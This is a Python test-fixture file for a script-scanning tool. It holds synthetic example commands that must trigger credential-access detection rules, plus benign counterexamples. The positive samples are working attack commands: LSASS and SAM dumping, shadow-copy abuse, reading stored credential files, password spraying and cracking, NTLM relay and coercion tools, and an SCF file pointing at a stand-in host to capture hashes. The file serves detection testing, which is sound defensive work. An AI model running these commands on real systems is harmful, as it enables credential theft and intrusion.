"""Examples for the credential-access `TWN-` rules; all synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PS = Lang.POWERSHELL
BAT = Lang.BATCH
SH = Lang.BASH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    (
        "TWN-100",
        PS,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $id $env:TEMP\\svc.dmp full",
    ),
    ("TWN-101", BAT, "rdrleakdiag.exe /p 640 /o C:\\Users\\Public /fullmemdmp /wait 1"),
    ("TWN-101", BAT, "sqldumper.exe 640 0 0x0110"),
    ("TWN-101", BAT, "tttracer.exe -dumpFull -attach 640"),
    ("TWN-101", BAT, "createdump.exe -u -f C:\\Users\\Public\\d.dmp 640"),
    ("TWN-102", BAT, "HiveNightmare.exe"),
    ("TWN-102", SH, "samdump2 SYSTEM SAM > hashes.txt"),
    ("TWN-103", BAT, "vssadmin.exe create shadow /for=C:"),
    ("TWN-103", BAT, "wmic shadowcopy call create Volume='C:\\'"),
    ("TWN-103", PS, "(Get-WmiObject -List Win32_ShadowCopy).Create('C:\\', 'ClientAccessible')"),
    ("TWN-121", BAT, "diskshadow.exe /s C:\\Users\\Public\\script.txt"),
    (
        "TWN-103",
        BAT,
        "mklink /D C:\\vss \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\",
    ),
    ("TWN-104", BAT, "cmdkey /list"),
    ("TWN-105", BAT, "type C:\\Windows\\Panther\\Unattend.xml"),
    ("TWN-105", PS, "Get-Content C:\\Windows\\System32\\sysprep\\sysprep.inf"),
    ("TWN-106", PS, "Get-Content $env:USERPROFILE\\.aws\\credentials"),
    ("TWN-106", SH, "cat ~/.git-credentials ~/.netrc"),
    ("TWN-106", BAT, "type %APPDATA%\\FileZilla\\recentservers.xml"),
    ("TWN-107", BAT, "certutil -p pass -exportPFX my 0123abcd C:\\Users\\Public\\c.pfx"),
    ("TWN-107", BAT, "dir c:\\ *.pfx /s"),
    ("TWN-107", PS, "Get-ChildItem C:\\Users -Recurse -Include *.pfx,*.ppk"),
    ("TWN-108", BAT, "rundll32.exe keymgr.dll,KRShowKeyMgr"),
    ("TWN-109", PS, "Get-KeePassDatabaseKey -Verbose"),
    ("TWN-110", PS, "Get-ChildItem C:\\Users -Recurse -Filter *.kdbx"),
    ("TWN-111", PS, "Invoke-DomainPasswordSpray -Password Spring2024! -Force"),
    ("TWN-111", SH, "kerbrute passwordspray -d corp.local users.txt Winter2024"),
    (
        "TWN-112",
        BAT,
        "for /f %p in (passwords.txt) do net use \\\\dc01\\IPC$ /user:corp\\admin %p",
    ),
    ("TWN-113", SH, "hydra -L users.txt -P pass.txt ssh://10.0.0.5"),
    ("TWN-114", BAT, "hashcat.exe -m 1000 hashes.txt rockyou.txt"),
    ("TWN-114", SH, "john --wordlist=rockyou.txt hashes.txt"),
    ("TWN-115", PS, 'Invoke-Internalmonologue -command "-Downgrade true -impersonate true"'),
    ("TWN-115", BAT, "PetitPotam.exe 10.0.0.9 10.0.0.1"),
    ("TWN-116", BAT, "echo IconFile=\\\\192.0.2.10\\share\\icon.ico >> C:\\Users\\Public\\@a.scf"),
    ("TWN-117", PS, "Invoke-Inveigh -ConsoleOutput Y -NBNS Y"),
    ("TWN-117", SH, "responder -I eth0 -wd"),
    ("TWN-118", BAT, "Certify.exe find /vulnerable"),
    ("TWN-118", SH, "certipy req -u user@corp.local -ca CORP-CA -template ESC1"),
    (
        "TWN-119",
        BAT,
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v"
        " UseLogonCredential /t REG_DWORD /d 1 /f",
    ),
    (
        "TWN-120",
        PS,
        'Get-Content "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Bookmarks"',
    ),
    ("TWN-120", SH, "find ~/.mozilla -name places.sqlite"),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (BAT, "cmdkey /add:fileserver /user:corp\\svc_backup /pass:%PASS%"),
    (PS, "Export-Certificate -Cert $cert -FilePath C:\\certs\\web.cer"),
    (BAT, "vssadmin list shadows\nvssadmin list writers"),
    (SH, "aws configure set region us-east-1\naws s3 ls"),
    (
        BAT,
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v"
        " UseLogonCredential /t REG_DWORD /d 0 /f",
    ),
)
